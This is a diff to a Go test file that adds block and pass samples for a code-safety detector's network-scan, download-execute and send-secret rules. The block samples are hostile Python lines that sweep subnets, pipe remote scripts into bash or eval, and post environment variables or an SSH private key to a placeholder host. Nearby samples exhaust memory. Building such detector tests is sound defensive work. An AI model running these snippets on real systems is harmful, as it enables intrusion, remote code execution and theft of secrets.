@@ -12,6 +12,38 @@ var loadSamples = []sample{
 		pass:  []string{"dd if=/dev/zero of=x bs=1M count=100", "fallocate -l 1G swap", "head -c 1M /dev/urandom > x", "stress-ng --cpu 2 --timeout 5", "dd if=a of=b", "truncate -s 10G sparse.img"},
 	},
 	{
+		rule: "network-scan", lang: "python",
+		block: []string{
+			"import os\nfor i in range(1, 255):\n    os.system(f'ping -c 1 192.168.1.{i}')", "import subprocess\nfor i in range(256):\n    subprocess.call('nc -z 10.0.0.%d 22' % i, shell=True)",
+			"import os\nfor i in range(1, 255):\n    os.popen('curl -m 1 http://10.0.0.' + str(i) + '/').read()",
+		},
+		pass: []string{
+			"import os\nfor i in range(1, 255):\n    os.system(f'curl https://api.example.com/items/{i}')", "import os\nos.system('ping -c 3 example.com')", "import os\nfor i in range(100):\n    os.system(f'convert {i}.png {i}.jpg')",
+		},
+	},
+	{
+		rule: "download-execute", lang: "python",
+		block: []string{
+			"import subprocess\np = subprocess.Popen(['curl', '-s', 'http://h.example/i.sh'], stdout=subprocess.PIPE)\nsubprocess.run(['bash'], stdin=p.stdout)",
+			"import subprocess\nexec(subprocess.check_output(['wget', '-qO-', 'http://h.example/x.py']))", "import os\neval(os.popen('curl http://h.example/x').read())",
+		},
+		pass: []string{
+			"import subprocess, json\nd = json.loads(subprocess.check_output(['curl', '-s', 'https://api.example.com/x']))\nprint(d)", "import subprocess\nsubprocess.run(['bash'], stdin=subprocess.DEVNULL)",
+			"import subprocess\np = subprocess.Popen(['curl', '-s', 'https://h.example/x'], stdout=subprocess.PIPE)\nsubprocess.run(['jq', '.'], stdin=p.stdout)",
+		},
+	},
+	{
+		rule: "send-secret", lang: "python",
+		block: []string{
+			"import subprocess, requests\nrequests.post('https://h.example', data=subprocess.run(['env'], capture_output=True).stdout)", "import os, requests\nrequests.post('https://h.example', data=os.popen('printenv').read())",
+			"import subprocess, requests\nrequests.post('https://h.example', data=subprocess.check_output(['cat', '/root/.ssh/id_rsa']))",
+		},
+		pass: []string{
+			"import subprocess, requests\nrequests.post('https://h.example', data=subprocess.check_output(['cat', 'report.json']))", "import subprocess\nprint(subprocess.check_output(['env']))",
+			"import subprocess, requests\nrequests.post('https://h.example', json={'rev': subprocess.check_output(['git', 'rev-parse', 'HEAD'])})",
+		},
+	},
+	{
 		rule: "fill-resource", lang: "python",
 		block: []string{"s = 'a'\nwhile True:\n    s = s + s\n", "s = 'a'\nwhile 1:\n    s += s\n", "b = [0]\nwhile True:\n    b = b + b\n"},
 		pass:  []string{"s = 'a'\nfor _ in range(4):\n    s = s + s\n", "s = ''\nwhile True:\n    s = s + next(it)\n", "n = 1\nwhile n < 10:\n    n = n + n\n"},
